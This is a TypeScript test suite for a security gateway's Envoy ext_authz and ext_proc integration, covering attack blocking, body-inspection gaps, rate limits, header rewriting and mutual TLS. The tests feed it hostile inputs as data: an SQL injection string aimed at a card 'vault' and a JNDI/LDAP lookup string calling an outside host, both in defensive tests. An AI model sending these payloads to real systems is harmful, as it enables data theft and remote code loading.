import { type ChannelCredentials, credentials } from '@grpc/grpc-js';
import type { ExchangeEvent } from '@sallyport/core';
import { afterEach, describe, expect, it } from 'vitest';
import { Cleanup, exchanges, type TestGateway, until } from '../../gateway.fixture.ts';
import { TestCertificates } from '../../tls/certificates.fixture.ts';
import { type EnvoyAnswer, EnvoyClient, type EnvoyRequest, headerMap, statusNumber } from './envoy.fixture.ts';
import type { CheckRequest } from './protocol.ts';

const cleanup = new Cleanup();
afterEach(() => cleanup.run());

const ATTACK = JSON.stringify({ note: "x' UNION SELECT card FROM vault--" });
const HONEST = JSON.stringify({ note: 'rent for May' });

function post(body: string, headers: EnvoyRequest['headers'] = []): EnvoyRequest {
  const bytes = Buffer.from(body);
  return {
    method: 'POST',
    path: '/payments',
    authority: 'api.bank.example',
    headers: [['content-type', 'application/json'], ['content-length', String(bytes.length)], ...headers],
    body: bytes,
  };
}

const get = (path: string): EnvoyRequest => ({ method: 'GET', path, authority: 'api.bank.example', headers: [], body: null });

function clientOf(gateway: TestGateway, by?: ChannelCredentials): EnvoyClient {
  const client = new EnvoyClient(gateway.port, by);
  cleanup.add(() => client.close());
  return client;
}

/** A busy machine is not what these tests are about. */
const PATIENT = { inspect_ms_max: 1_000 };

async function envoy(
  kind: 'ext_authz' | 'ext_proc',
  listener: object = {},
  policy: Record<string, unknown> = {},
): Promise<[EnvoyClient, TestGateway]> {
  const gateway = await cleanup.gateway(
    { listeners: [{ name: 'envoy', kind, port: 0, ...listener }], upstreams: [] },
    { ...PATIENT, ...policy },
  );
  return [clientOf(gateway), gateway];
}

/** An answer whose `id` is a number departs from it. */
const SPEC = {
  name: 'bank',
  text: JSON.stringify({
    openapi: '3.1.0',
    info: { title: 'Bank', version: '1' },
    paths: {
      '/accounts': {
        get: {
          responses: {
            200: {
              description: 'ok',
              content: { 'application/json': { schema: { type: 'object', properties: { id: { type: 'string' } } } } },
            },
          },
        },
      },
    },
  }),
};

async function recorded(gateway: TestGateway): Promise<ExchangeEvent[]> {
  return exchanges(await gateway.events());
}

const answer = (body: string | null = '{"ok":true}'): EnvoyAnswer => ({
  status: 200,
  headers: [['content-type', 'application/json']],
  body: body === null ? null : Buffer.from(body),
});

const HEADER_RULES = [
  { id: 'in', on: 'request', remove: ['x-debug'], set: { 'x-checked': 'yes' } },
  { id: 'out', on: 'answer', remove: ['x-inside'], set: { 'x-frame-options': 'DENY' } },
];

describe('ext_authz', () => {
  it('lets pass and records that the answer was not shown', async () => {
    const [client, gateway] = await envoy('ext_authz');
    const response = await client.check(post(HONEST), { raw: true, body: true });
    expect(response.status.code).toBe(0);
    const [event] = await recorded(gateway);
    expect(event).toMatchObject({
      method: 'POST',
      host: 'api.bank.example',
      path: '/payments',
      status: 0,
      client: '127.0.0.1',
      requestBytes: HONEST.length,
    });
    expect(event?.decision.action).toBe('pass');
    expect(event?.gaps.map((gap) => [gap.reason, gap.phase])).toEqual([['not-shown', 'response-headers']]);
  });

  it.each([true, false])('refuses an attack in the body with the answer of the inline proxy (raw headers: %s)', async (raw) => {
    const [client, gateway] = await envoy('ext_authz');
    const response = await client.check(post(ATTACK), { raw, body: true });
    expect(response.status.code).toBe(7);
    const denied = response.denied_response;
    expect(statusNumber(denied?.status.code ?? 0)).toBe(403);
    expect(JSON.parse(denied?.body ?? '')).toMatchObject({ type: 'urn:sallyport:error:REQUEST_BLOCKED', status: 403 });
    const [event] = await recorded(gateway);
    expect(event).toMatchObject({ status: 403, decision: { action: 'block', classes: ['sqli'] } });
  });

  it('says that it saw no body where Envoy sends none, whatever the fail mode', async () => {
    const [client, gateway] = await envoy('ext_authz', {}, { on_error: 'closed' });
    expect((await client.check(post(ATTACK), { raw: true, body: false })).status.code).toBe(0);
    const [event] = await recorded(gateway);
    expect(event?.gaps.map((gap) => [gap.reason, gap.phase])).toEqual([
      ['not-shown', 'response-headers'],
      ['not-shown', 'request-body'],
    ]);
  });

  it('takes the start of a body for the start, and refuses it where the route fails closed', async () => {
    const [client] = await envoy('ext_authz', {}, { on_error: 'closed' });
    const response = await client.check(post(JSON.stringify({ note: 'a'.repeat(500) })), { raw: true, body: true, max_bytes: 100 });
    expect(statusNumber(response.denied_response?.status.code ?? 0)).toBe(413);
  });

  it.each([
    ['upgrade', 'websocket'],
    ['x-envoy-auth-partial-body', 'true'],
  ])('inspects the body whatever the client says of it (%s)', async (name, value) => {
    const [client, gateway] = await envoy('ext_authz');
    const response = await client.check({ ...post(ATTACK, [[name, value]]), method: 'GET' }, { raw: true, body: true });
    expect(response.status.code).toBe(7);
    const [event] = await recorded(gateway);
    expect(event?.gaps.map((gap) => gap.reason)).toEqual(['not-shown']);
  });

  it('hands on what is left of a limit, and refuses past it', async () => {
    const limits = [{ id: 'few', limit: 1, action: 'throttle' }];
    const [client] = await envoy('ext_authz', {}, { limits });
    const first = await client.check(get('/a'), { raw: true, body: false });
    expect(first.ok_response?.response_headers_to_add.map(({ header }) => header.key)).toContain('ratelimit');
    const second = await client.check(get('/a'), { raw: true, body: false });
    expect(statusNumber(second.denied_response?.status.code ?? 0)).toBe(429);
    expect(second.denied_response?.headers.map(({ header }) => header.key)).toContain('retry-after');
  });

  it('edits headers as the policy says, as far as Envoy lets it', async () => {
    const [client] = await envoy('ext_authz', {}, { headers: HEADER_RULES });
    const { ok_response: passed } = await client.check(get('/a'), { raw: true, body: false });
    const pairs = (list: readonly { header: { key: string; value: string } }[] = []) =>
      list.map(({ header }) => [header.key, header.value]);
    expect(pairs(passed?.headers)).toEqual([['x-checked', 'yes']]);
    expect(passed?.headers_to_remove).toEqual(['x-debug']);
    expect(pairs(passed?.response_headers_to_add)).toEqual([['x-frame-options', 'DENY']]);
  });

  it('refuses a message that is about nothing, and goes on', async () => {
    const [client] = await envoy('ext_authz');
    await expect(client.checkMessage({} as CheckRequest)).rejects.toThrow(/ENVOY_MESSAGE/);
    await expect(client.checkMessage({ attributes: { request: { http: { method: 'GET' } } } } as unknown as CheckRequest)).rejects.toThrow(
      /ENVOY_MESSAGE/,
    );
    expect((await client.check(get('/a'), { raw: true, body: false })).status.code).toBe(0);
  });
});

describe('ext_proc', () => {
  const buffered = { request_body_mode: 'BUFFERED', response_body_mode: 'BUFFERED' } as const;

  it('sees request and answer wholly', async () => {
    const [client, gateway] = await envoy('ext_proc');
    const outcome = await client.process(post(HONEST), buffered, () => answer());
    expect(outcome).toMatchObject({ status: 200, immediate: false });
    const [event] = await recorded(gateway);
    expect(event).toMatchObject({
      status: 200,
      upstreamStatus: 200,
      requestBytes: HONEST.length,
      responseBytes: 11,
      gaps: [],
      client: '127.0.0.1',
    });
  });

  it.each(['BUFFERED', 'STREAMED'] as const)(
    'stops an attack in a body that is sent %s before the upstream has all of it',
    async (mode) => {
      const [client, gateway] = await envoy('ext_proc', { request_body: mode === 'STREAMED' ? 'streamed' : 'buffered' });
      let asked = 0;
      const body = JSON.stringify({ filler: 'a'.repeat(3_000), note: "x' UNION SELECT card FROM vault--" });
      const outcome = await client.process(post(body), { ...buffered, request_body_mode: mode }, () => {
        asked++;
        return answer();
      });
      expect(outcome).toMatchObject({ status: 403, immediate: true });
      expect(JSON.parse(outcome.body.toString())).toMatchObject({ type: 'urn:sallyport:error:REQUEST_BLOCKED' });
      expect(asked).toBe(0);
      const [event] = await recorded(gateway);
      expect(event).toMatchObject({ status: 403, requestBytes: body.length, decision: { classes: ['sqli'] } });
    },
  );

  it('stops an attack in the head before any body is sent', async () => {
    const [client] = await envoy('ext_proc');
    const outcome = await client.process(get('/a?id=1%27%20UNION%20SELECT%20card%20FROM%20vault--'), buffered, () => answer());
    expect(outcome).toMatchObject({ status: 403, immediate: true });
  });

  it('asks for the modes it needs, where Envoy allows that', async () => {
    const [client, gateway] = await envoy('ext_proc');
    const modes = { request_body_mode: 'NONE', response_body_mode: 'NONE', allow_mode_override: true } as const;
    expect(await client.process(post(ATTACK), modes, () => answer())).toMatchObject({ status: 403, immediate: true });
    expect((await client.process(get('/a'), modes, () => answer())).override).toMatchObject({
      request_body_mode: 'NONE',
      response_body_mode: 'BUFFERED_PARTIAL',
    });
    expect((await recorded(gateway)).map((event) => event.responseBytes)).toEqual([expect.any(Number), 11]);
  });

  it('decides at the headers where no body is to come', async () => {
    const [client, gateway] = await envoy('ext_proc', { request_body: 'none', answer_body: 'none' });
    await client.process(post(ATTACK), { request_body_mode: 'NONE', response_body_mode: 'NONE' }, () => answer());
    const [event] = await recorded(gateway);
    expect(event?.decision.action).toBe('pass');
    expect(event?.gaps.map((gap) => [gap.reason, gap.phase])).toEqual([
      ['not-shown', 'request-body'],
      ['not-shown', 'response-body'],
    ]);
  });

  it('decides late rather than never where the announced body does not come, and counts it', async () => {
    const [client, gateway] = await envoy('ext_proc');
    const request = { ...post(HONEST), path: '/a?id=1%27%20UNION%20SELECT%20card%20FROM%20vault--' };
    const outcome = await client.process(request, { request_body_mode: 'NONE', response_body_mode: 'NONE' }, () => answer());
    expect(outcome).toMatchObject({ status: 403, immediate: true });
    expect(gateway.gateway.samples().find(({ name }) => name === 'sallyport_late_decisions_total')?.value).toBe(1);
  });

  it('takes what Envoy could not buffer for a part', async () => {
    const [client] = await envoy('ext_proc', {}, { on_error: 'closed' });
    const modes = { request_body_mode: 'BUFFERED_PARTIAL', response_body_mode: 'NONE', buffer_bytes: 100 } as const;
    expect(await client.process(post(JSON.stringify({ note: 'a'.repeat(500) })), modes, () => answer())).toMatchObject({ status: 413 });
  });

  it('inspects trailers among the headers', async () => {
    const [client] = await envoy('ext_proc', { request_body: 'streamed' });
    const request = { ...post(HONEST), trailers: [['x-note', '${jndi:ldap://203.0.113.5/a}']] as const };
    const outcome = await client.process(request, { ...buffered, request_body_mode: 'STREAMED' }, () => answer());
    expect(outcome).toMatchObject({ status: 403, immediate: true });
  });

  it('only watches in observability mode, and says so', async () => {
    const [client, gateway] = await envoy('ext_proc', { request_body: 'streamed' });
    const modes = { request_body_mode: 'STREAMED', response_body_mode: 'STREAMED', observability_mode: true } as const;
    expect(await client.process(post(ATTACK), modes, () => answer())).toMatchObject({ status: 200 });
    await until(() => gateway.gateway.samples().some(({ name }) => name === 'sallyport_requests_total'));
    const [event] = await recorded(gateway);
    expect(event?.decision).toMatchObject({ verdict: 'block', action: 'pass', mode: 'monitor' });
    expect(event?.gaps.map((gap) => gap.reason)).toContain('out-of-band');
  });

  it('records an exchange whose answer never came', async () => {
    const [client, gateway] = await envoy('ext_proc');
    await client.process(post(HONEST), { ...buffered, response_header_mode: 'SKIP' }, () => answer());
    await until(() => gateway.gateway.samples().some(({ name }) => name === 'sallyport_requests_total'));
    const [event] = await recorded(gateway);
    expect(event).toMatchObject({ status: 0, upstreamStatus: 0 });
    expect(event?.gaps.map((gap) => gap.reason)).toEqual(['not-shown']);
  });

  it('hands on what is left of a limit with the answer', async () => {
    const limits = [{ id: 'few', limit: 1, action: 'throttle' }];
    const [client] = await envoy('ext_proc', {}, { limits });
    await client.process(get('/a'), buffered, () => answer());
    const outcome = await client.process(get('/a'), buffered, () => answer());
    expect(outcome).toMatchObject({ status: 429, immediate: true });
    expect(outcome.headers.map(([name]) => name)).toContain('retry-after');
  });

  it.each(['buffered', 'streamed'] as const)(
    'stops an answer that departs from its description where Envoy holds it (%s)',
    async (answer_body) => {
      const listeners = [{ name: 'envoy', kind: 'ext_proc', port: 0, answer_body }];
      const policy = { specification: { rules: [{ id: 'answers', action: 'block' }] } };
      const gateway = await cleanup.gateway({ listeners }, policy, {}, [SPEC]);
      const client = clientOf(gateway);
      const modes = { request_body_mode: 'BUFFERED', response_body_mode: answer_body === 'buffered' ? 'BUFFERED' : 'STREAMED' } as const;
      expect(await client.process(get('/accounts'), modes, () => answer('{"id":"a"}'))).toMatchObject({ status: 200, immediate: false });
      const wrong = await client.process(get('/accounts'), modes, () => answer('{"id":7}'));
      expect(wrong).toMatchObject(answer_body === 'buffered' ? { status: 502, immediate: true } : { status: 200, immediate: false });
      const [, event] = await recorded(gateway);
      expect(event?.signals?.map(({ rule }) => rule)).toContain('invalid-response-body');
      expect(event).toMatchObject({ status: answer_body === 'buffered' ? 502 : 200, upstreamStatus: 200 });
    },
  );

  it('edits headers of requests and answers as the policy says', async () => {
    const [client] = await envoy('ext_proc', {}, { headers: HEADER_RULES });
    const asked = { ...post('{"a":1}', [['x-debug', '1']]) };
    const outcome = await client.process(asked, buffered, () => ({
      ...answer(),
      headers: [
        ['x-inside', 'node-7'],
        ['x-frame-options', 'ALLOW'],
      ],
    }));
    const upstream = new Map(outcome.toUpstream);
    expect([upstream.get('x-debug'), upstream.get('x-checked')]).toEqual([undefined, 'yes']);
    expect(outcome.headers).toEqual([['x-frame-options', 'DENY']]);
  });

  it('ends a stream that makes no sense, and only that', async () => {
    const [client] = await envoy('ext_proc');
    const nonsense = { ...get('/a'), path: '' };
    await expect(client.process(nonsense, buffered, () => answer())).rejects.toThrow(/ENVOY_MESSAGE/);
    expect(await client.process(get('/a'), buffered, () => answer())).toMatchObject({ status: 200 });
    expect(headerMap([['A', 'b']]).headers[0]?.key).toBe('a');
  });
});

it('speaks gRPC within TLS, to clients with a certificate of the authority only', async () => {
  const made = new TestCertificates();
  cleanup.add(() => made.remove());
  made.authority('ca');
  made.certificate('server', 'ca', 'DNS:localhost,IP:127.0.0.1');
  made.certificate('envoy', 'ca', 'DNS:envoy.mesh');
  const tls = {
    certificates: [{ certificate: made.pem('server'), key: made.key('server') }],
    client_certificates: 'require',
    client_ca: made.pem('ca'),
  };
  const [, gateway] = await envoy('ext_authz', { tls });
  const known = credentials.createSsl(made.read('ca'), made.readKey('envoy'), made.read('envoy'));
  expect((await clientOf(gateway, known).check(get('/a'), { raw: true, body: false })).status.code).toBe(0);
  const stranger = clientOf(gateway, credentials.createSsl(made.read('ca')));
  await expect(stranger.check(get('/a'), { raw: true, body: false })).rejects.toThrow();
});
